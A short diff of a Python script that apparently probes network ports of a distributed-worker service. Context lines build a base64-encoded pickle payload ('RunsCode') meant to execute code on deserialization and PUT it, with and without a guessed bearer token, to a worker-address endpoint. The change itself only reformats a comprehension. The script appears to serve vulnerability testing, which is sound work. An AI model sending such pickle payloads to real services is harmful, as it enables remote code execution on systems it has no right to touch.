@@ -40,8 +40,11 @@ def main() -> None:
     payload = base64.b64encode(pickle.dumps((RunsCode(marker), b"key")))
     requests = [("PUT", payload, {}), ("PUT", payload, {"Authorization": "Bearer guessed"}), ("GET", None, {})]
     with ThreadPoolExecutor(max_workers=16) as pool:  # a port that never answers costs its timeout once, not thrice
-        asked = {(port, index): pool.submit(ask, address, port, method, "/worker_addresses/intruder:0", body, headers)
-                 for port in ports for index, (method, body, headers) in enumerate(requests)}
+        asked = {
+            (port, index): pool.submit(ask, address, port, method, "/worker_addresses/intruder:0", body, headers)
+            for port in ports
+            for index, (method, body, headers) in enumerate(requests)
+        }
     found = {port: [asked[port, index].result() for index in range(len(requests))] for port in ports}
     print(json.dumps(found))
 
